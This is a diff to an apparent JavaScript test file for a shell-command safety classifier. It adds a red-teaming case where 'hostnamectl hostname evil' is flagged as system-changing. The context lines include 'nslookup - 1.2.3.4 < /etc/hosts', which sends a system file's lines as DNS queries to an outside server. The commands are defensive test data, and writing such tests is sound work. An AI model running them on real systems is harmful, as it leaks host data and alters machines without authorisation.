@@ -332,3 +332,8 @@ test('`nslookup` without a name reads queries from its input: a file\'s lines wo
   assert.equal(inspectCommand('nslookup - 1.2.3.4 < /etc/hosts').class, 'opaque');
   assert.equal(inspectCommand('nslookup example.com').class, 'read');
 });
+
+test('`hostnamectl hostname NAME` sets the host name: not read (found by red-teaming)', () => {
+  assert.deepEqual(inspectCommand('hostnamectl hostname evil').categories, ['service_control']);
+  assert.equal(inspectCommand('hostnamectl hostname').class, 'read');
+});
